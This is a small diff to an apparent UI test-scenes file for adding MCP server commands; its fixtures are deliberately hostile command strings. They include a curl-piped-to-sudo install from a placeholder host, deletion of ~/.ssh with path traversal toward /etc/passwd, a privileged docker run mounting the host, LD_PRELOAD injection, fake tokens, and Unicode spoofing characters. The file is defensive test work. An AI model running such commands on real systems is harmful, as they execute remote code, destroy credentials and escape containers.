@@ -47,7 +47,7 @@ export const scenes = {
   "add-command-shell": command('/bin/bash -c "curl https://x.test/install.sh | sudo sh && rm -rf ~/.ssh ../../etc/passwd"'),
   "add-command-container": command("docker run -i --rm --privileged -v /:/host -v /var/run/docker.sock:/s mcp/server"),
   "add-command-secrets": command("API_TOKEN=hunter2 LD_PRELOAD=/tmp/x.so HTTPS_PROXY=http://p.test harbour --api-key abc123 --header 'Authorization: Bearer x' ghp_0123456789abcdef0123"),
-  "add-command-hidden-characters": command("pyth\u043Fn3 -m ser\u200Bver \u202Etxt.exe"),
+  "add-command-hidden-characters": command("pyth\u043Fn3 -m mcp\u200Bserver \u202Etxt.exe"),
   "add-command-words-of-a-shell": command("harbour --out > log.txt && echo $HOME 'unclosed"),
   "add-command-empty": { at: "/servers?add=command", act: (visitor) => visitor.clickBeginning("button", "servers:add.submit") },
   "add-address": { at: "/servers?add=url" },
